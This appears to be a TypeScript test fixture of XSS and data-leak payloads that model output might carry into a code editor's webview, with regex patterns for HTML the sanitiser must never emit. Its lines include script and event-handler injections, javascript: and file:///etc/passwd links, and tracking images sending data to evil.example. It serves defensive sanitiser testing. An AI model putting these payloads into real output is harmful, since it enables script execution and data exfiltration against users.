/** Known tricks in model output, and what must never reach the webview's DOM; shared by the two sanitising layers' tests. */

/** [name, markdown or raw HTML a model might send]. */
export const ATTACKS: Array<[string, string]> = [
  ['raw script tag', '<script>alert(1)</script>'],
  ['inline event handler', '<img src=x onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)></svg>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['javascript: link', '[click](javascript:alert(1))'],
  ['javascript: link, mixed case and entities', '[click](JaVaScRiPt&#58;alert(1))'],
  ['javascript: link with a tab', '[click](java\tscript:alert(1))'],
  ['vbscript: link', '[x](vbscript:msgbox(1))'],
  ['data:text/html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data: image used as a link', '[x](data:image/png;base64,iVBORw0KGgo=)'],
  ['file: link', '[passwd](file:///etc/passwd)'],
  ['command: link', '[run](command:workbench.action.terminal.new)'],
  ['vscode: link', '[open](vscode://file/etc/passwd)'],
  ['remote image (tracking pixel)', '![pixel](https://evil.example/p.gif?leak=secret)'],
  ['protocol-relative image', '![pixel](//evil.example/p.gif)'],
  ['reference-style remote image', '![pixel][r]\n\n[r]: https://evil.example/p.gif'],
  ['autolinked javascript', '<javascript:alert(1)>'],
  ['attribute breakout in a link title', '[x](https://ok.example "a\\" onmouseover=\\"alert(1))'],
  ['attribute breakout in a fence language', '```js" onmouseover="alert(1)\ncode\n```'],
  ['html inside a fence language with a known language', '```javascript\n</code><script>alert(1)</script>\n```'],
  ['style tag', '<style>body{background:url(https://evil.example/x)}</style>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base tag', '<base href="https://evil.example/">'],
  ['form', '<form action="https://evil.example"><button>go</button></form>'],
  ['remote video', '<video src="https://evil.example/v.mp4" autoplay></video>'],
  ['video poster', '<video poster="https://evil.example/p.png"></video>'],
  ['remote audio', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
  ['source inside video', '<video><source src="https://evil.example/v.webm" type="video/webm"></video>'],
  ['track inside audio', '<audio><track src="https://evil.example/t.vtt"></audio>'],
  ['picture with srcset', '<picture><source srcset="https://evil.example/x.png"><img src="x"></picture>'],
  ['formaction on a button', '<button formaction="https://evil.example">x</button>'],
  ['markdown image with a URL password', '![x](https://user:pass@evil.example/p.gif)'],
  ['provider error text with an image', 'The server said: ![x](https://evil.example/leak?k=1)'],
];

/** What must never appear in the HTML the renderer emits. */
export const FORBIDDEN: Array<[string, RegExp]> = [
  ['a real tag other than the safe ones', /<(?!\/?(?:p|a|em|strong|code|pre|span|ul|ol|li|br|hr|h[1-6]|blockquote|table|thead|tbody|tr|th|td|img|del|s)\b)[a-z]/i],
  ['an event handler attribute', /<[^>]*\son[a-z]+\s*=/i],
  ['a script URL in href or src', /(?:href|src)\s*=\s*"\s*(?:javascript|vbscript|data:text|file|command|vscode):/i],
  ['a remote or protocol-relative src', /\ssrc\s*=\s*"(?:https?:)?\/\//i],
];
